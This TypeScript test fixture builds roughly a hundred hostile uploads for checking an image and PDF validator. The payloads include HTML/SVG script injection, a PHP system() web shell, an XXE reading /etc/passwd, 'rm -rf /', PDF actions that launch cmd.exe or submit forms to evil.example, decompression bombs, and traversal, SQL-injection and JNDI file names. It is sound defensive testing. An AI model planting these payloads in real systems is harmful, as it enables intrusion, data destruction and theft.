// Makes a hundred malicious files, each with the field that it is sent to.
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { packedPdf, pdfWith, rewritten } from './pdf.ts';
import { bomb, jpeg, pdf, png, withChunk, withSegment } from './samples.ts';

export interface Hostile {
  readonly what: string;
  readonly field: 'picture' | 'document';
  readonly name: string;
  readonly bytes: Buffer;
  /** The error code of the refusal. */
  readonly code?: string;
}

const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const PHP = '<?php system($_GET["c"]); ?>';
const ZIP = Buffer.from(`PK\x03\x04evil.html${'\0'.repeat(20)}PK\x05\x06${'\0'.repeat(18)}`, 'latin1');

/** Bytes as text, one character each. */
const raw = (text: string): Buffer => Buffer.from(text, 'latin1');

const NOT_PICTURES: Readonly<Record<string, Buffer>> = {
  html: raw(HTML),
  'html behind a mark': Buffer.from(`\ufeff${HTML}`),
  'html behind spaces': raw(`\n\n   ${HTML}`),
  'html behind a GIF header': raw(`GIF89a/*${HTML}*/=0`),
  'html behind a BMP header': raw(`BM${HTML}`),
  'html behind a PNG header': Buffer.concat([raw('\x89PNG\r\n\x1a\n'), raw(HTML)]),
  'html behind a JPEG header': Buffer.concat([raw('\xff\xd8\xff\xe0'), raw(HTML)]),
  'html behind a WebP header': raw(`RIFF\x20\0\0\0WEBP${HTML}`),
  svg: raw(SVG),
  'svg with a declaration': raw(`<?xml version="1.0"?>${SVG}`),
  'svg behind a mark': Buffer.from(`\ufeff${SVG}`),
  'svg that is packed': gzipSync(SVG),
  xml: raw('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  php: raw(PHP),
  javascript: raw('alert(1)//'),
  shell: raw('#!/bin/sh\nrm -rf /\n'),
  program: raw(`MZ${'\0'.repeat(60)}PE\0\0`),
  elf: raw(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`),
  wasm: raw('\0asm\x01\0\0\0'),
  zip: ZIP,
  flash: raw(`FWS\x09${'\0'.repeat(40)}`),
  gif: raw('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'),
  'a script in a GIF': raw(`GIF89a=1;alert(1)//\x01\0;`),
  tiff: raw('II*\0\x08\0\0\0'),
  bmp: raw(`BM${'\0'.repeat(60)}`),
  icon: raw('\0\0\x01\0\x01\0\x10\x10\0\0\0\0\0\0'),
  'a class of Java': raw('\xca\xfe\xba\xbe\0\0\0\x34'),
  rtf: raw('{\\rtf1{\\object\\objocx}}'),
  mp4: raw('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'),
  heic: raw('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
  text: raw('not a picture'),
  'one byte': raw('\x89'),
  nothing: Buffer.alloc(0),
};

async function pictures(): Promise<Omit<Hostile, 'field'>[]> {
  const [honest, photo] = [await png(), await jpeg()];
  const exif = await sharp(photo)
    .withExif({ IFD0: { ImageDescription: HTML, Copyright: PHP } })
    .jpeg()
    .toBuffer();
  const animated = withChunk(honest, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
  const made: Readonly<Record<string, [string, Buffer]>> = {
    'EXIF with a script': ['exif.jpg', exif],
    'a comment with a script': ['comment.jpg', withSegment(photo, 0xfe, raw(HTML))],
    'XMP with a script': ['xmp.jpg', withSegment(photo, 0xe1, raw(`http://ns.adobe.com/xap/1.0/\0${SVG}`))],
    'a profile with a script': ['icc.jpg', withSegment(photo, 0xe2, raw(`ICC_PROFILE\0\x01\x01${HTML}`))],
    'a PNG text with a script': ['text.png', withChunk(honest, 'tEXt', raw(`Comment\0${HTML}`))],
    'a packed PNG text': ['ztxt.png', withChunk(honest, 'zTXt', Buffer.concat([raw('a\0\0'), deflateSync(HTML)]))],
    'a PNG text of 50 MB': [
      'bomb.png',
      withChunk(honest, 'zTXt', Buffer.concat([raw('a\0\0'), deflateSync(Buffer.alloc(50_000_000))])),
    ],
    'a chunk of its own': ['own.png', withChunk(honest, 'evIL', raw(PHP))],
    'an animation': ['animated.png', animated],
    'html behind the end': ['tail.png', Buffer.concat([honest, raw(HTML)])],
    'php behind the end': ['tail.jpg', Buffer.concat([photo, raw(PHP)])],
    'an archive behind the end': ['zip.png', Buffer.concat([honest, ZIP])],
    'an archive behind a photo': ['zip.jpg', Buffer.concat([photo, ZIP])],
    'a script behind a photo': ['js.jpeg', Buffer.concat([photo, raw('*/=1;alert(1)//')])],
    'a document behind the end': ['pdf.png', Buffer.concat([honest, pdf()])],
    'a bomb of 30000 × 30000': ['b1.png', bomb(honest, 30_000, 30_000)],
    'a bomb of 2 × 60000000': ['b2.png', bomb(honest, 2, 60_000_000)],
    'a bomb of 0 × 0': ['b3.png', bomb(honest, 0, 0)],
    'half a PNG': ['half.png', (await png(800, 800)).subarray(0, 300)],
    'half a photo': ['half.jpg', photo.subarray(0, photo.length / 2)],
    'only a header': ['head.png', honest.subarray(0, 33)],
    'a document as a picture': ['document.png', pdf()],
    'a photo as a PNG': ['photo.png', photo],
  };
  return Object.entries(made).map(([what, [name, bytes]]) => ({ what, name, bytes }));
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const hex = (bytes: Buffer): Buffer => raw(`${bytes.toString('hex')}>`);
const action = (object: string) => pdfWith({ catalog: `/OpenAction ${object}` });
const link = (object: string) =>
  pdfWith({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${object} >>]` });

/** Files that are valid in every other way, and refused for something active in them. */
const ACTIVE: Readonly<Record<string, Buffer>> = {
  'runs a script': action(SCRIPT),
  'runs a script by another spelling': action('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
  'runs a script in hex': action('<< /S /JavaScript /JS <6170702e616c657274283129> >>'),
  'runs a script of another object': pdfWith({ catalog: '/OpenAction << /S 4 0 R >>', objects: ['/JavaScript'] }),
  'runs a script when a page opens': pdfWith({ page: `/AA << /O ${SCRIPT} >>` }),
  'runs a named script': pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  'hides its script': packedPdf([{ object: SCRIPT }]),
  'hides its script behind two filters': packedPdf([
    {
      object: SCRIPT,
      dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
      pack: (bytes) => hex(deflateSync(bytes)),
    },
  ]),
  'hides its script in plain hex': packedPdf([{ object: SCRIPT, dictionary: '/Filter /ASCIIHexDecode', pack: hex }]),
  'hides its script behind a filter of another spelling': packedPdf([
    { object: SCRIPT, dictionary: '/Filter /#46late#44ecode' },
  ]),
  'hides its script behind a long dictionary': packedPdf([
    { object: SCRIPT, dictionary: `/X (${'x'.repeat(5_000)}) /Filter /FlateDecode` },
  ]),
  'starts a program': action('<< /S /Launch /F (cmd.exe) >>'),
  'sends its form': link('<< /S /SubmitForm /F (https://evil.example) >>'),
  'fetches the data of its form': link('<< /S /ImportData /F (data.fdf) >>'),
  'opens another document': link('<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>'),
  'opens a document in it': link('<< /S /GoToE /T << /R /C >> >>'),
  'links to a script': link('<< /S /URI /URI (java script:alert\\(1\\)) >>'),
  'plays a film': pdfWith({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>]' }),
  'holds a file': pdfWith({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'holds a form of its own language': pdfWith({ catalog: '/AcroForm << /Fields [] /XFA (x) >>' }),
  'takes its bytes from elsewhere': pdfWith({ objects: ['<< /Length 0 /F (evil.bin) >>\nstream\n\nendstream'] }),
};

async function documents(): Promise<Omit<Hostile, 'field'>[]> {
  const text = pdf().toString('latin1');
  const made: Readonly<Record<string, Buffer>> = {
    'is a page too': raw(`${HTML}${text}`),
    'starts as a page': raw(text.replace('%PDF-1.4\n', `%PDF-1.4\n%${HTML}\n`)),
    'ends as a page': raw(`${text}${HTML}`),
    'is an archive too': Buffer.concat([raw(text), ZIP]),
    'is an archive with a comment': Buffer.concat([
      raw(text.replace('%%EOF\n', '')),
      raw(`PK\x03\x04evilPK\x05\x06${'\0'.repeat(16)}\x05\0%%EOF`),
    ]),
    'has no end': raw(text.replace('%%EOF', '')),
    'is only a header': raw('%PDF-1.7'),
    'is html with a header': raw(`%PDF-1.4 ${HTML} %%EOF`),
    'is PostScript': raw('%!PS-Adobe-3.0\n(evil) run'),
    'has objects where its table names none': raw(text.replace('1 0 obj', ' 1 0 obj')),
    'says twice what it starts': action(`<< /S /GoTo /D [3 0 R /Fit] /S /GoTo >>`),
    'unpacks to nothing whole': packedPdf([{ object: SCRIPT, pack: (bytes) => deflateSync(bytes).subarray(0, 20) }]),
    'has a filter that nobody knows': packedPdf([{ object: SCRIPT, dictionary: '/Filter /Own' }]),
    'is deep': pdfWith({ objects: ['['.repeat(50_000) + ']'.repeat(50_000)] }),
  };
  const locked = { 'asks for a password': await rewritten(pdf(), '--encrypt', 'user', 'owner', '256', '--') };
  const rewrittenActive = {
    'hides its script under a password': await rewritten(action(SCRIPT), '--encrypt', '', 'owner', '256', '--'),
    'hides its script in a file for slow networks': await rewritten(action(SCRIPT), '--linearize'),
  };
  const all = (files: typeof made, code?: string) =>
    Object.entries(files).map(([what, bytes]) => ({ what, name: 'document.pdf', bytes, code }));
  return [...all(made), ...all(locked, 'fileLocked'), ...all({ ...ACTIVE, ...rewrittenActive }, 'fileActive')];
}

/** Documents as programs and printers write them, which must be accepted. */
export async function honestDocuments(): Promise<Readonly<Record<string, Buffer>>> {
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const content = 'BT /F1 12 Tf 50 700 Td (Contract) Tj ET';
  const printed = pdfWith({
    catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseNone',
    page: '/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /ExtGState << /G << /BM /Screen >> >> >>',
    objects: [`<< /Length 6 0 R >>\nstream\n${content}\nendstream`, font, String(content.length)],
  });
  return {
    'our own': pdf(),
    printed,
    'with links': pdfWith({
      page: `/Annots [
        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://scoop.example/a?b=javascript:1) >> >>
        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:ada@scoop.example) >> >>
        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>]`,
    }),
    'with a form': pdfWith({
      catalog: '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
      page: '/Annots [4 0 R]',
      objects: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 99 9] /V (JavaScript /JS) >>'],
    }),
    'packed in streams': await rewritten(printed, '--object-streams=generate'),
    'for slow networks': await rewritten(printed, '--linearize'),
    'for slow networks and packed': await rewritten(printed, '--linearize', '--object-streams=generate'),
    'without the right to print': await rewritten(printed, '--encrypt', '', 'owner', '256', '--print=none', '--'),
  };
}

const NAMES: readonly string[] = [
  '../../../../etc/passwd.png',
  '..\\..\\windows\\system32\\evil.png',
  '/etc/cron.d/evil.png',
  'C:\\evil.png',
  'evil.html.png',
  'evil.php.png',
  'evil.png.html',
  'evil.png.svg',
  'evil.png.php',
  'evil.svg',
  'evil.html',
  'evil.PNG',
  'evil.png ',
  'evil',
  '.png',
  '..png',
  '.htaccess',
  'gnp.\u202egpj.png',
  '<img src=x onerror=alert(1)>.png',
  '"; filename="evil.html.png',
  "'; drop table file; --.png",
  'a%2f..%2fb.png',
  'a%00.html.png',
  'a;b&c#d?e.png',
  `${'long'.repeat(200)}.png`,
  `${'🍦'.repeat(200)}.png`,
  'con.png',
  '\u0024{jndi:ldap://evil}.png',
  '{{constructor}}.png',
  'evil.png.',
];

export async function hostileFiles(): Promise<Hostile[]> {
  const honest = await png();
  const disguised = Object.entries(NOT_PICTURES).flatMap(([what, bytes]): Hostile[] => [
    { what, field: 'picture', name: 'holiday.png', bytes },
    ...(what.startsWith('html') ? [{ what: `${what} as PDF`, field: 'document', name: 'a.pdf', bytes } as const] : []),
  ]);
  return [
    ...disguised,
    ...(await pictures()).map((file): Hostile => ({ ...file, field: 'picture' })),
    ...(await documents()).map((file): Hostile => ({ ...file, field: 'document' })),
    ...NAMES.map((name): Hostile => ({ what: `named ${name.slice(0, 40)}`, field: 'picture', name, bytes: honest })),
  ];
}
